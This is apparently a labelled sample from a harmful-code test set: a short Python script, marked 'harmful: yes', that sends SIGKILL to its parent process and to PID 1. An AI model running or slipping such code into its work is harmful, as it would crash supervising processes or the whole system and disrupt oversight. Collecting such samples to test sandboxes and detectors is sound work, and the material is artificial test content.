# tries: to kill the process that forked it
# harmful: yes
import os
import signal

for pid in (os.getppid(), 1):
    if pid not in (0, os.getpid()):
        os.kill(pid, signal.SIGKILL)
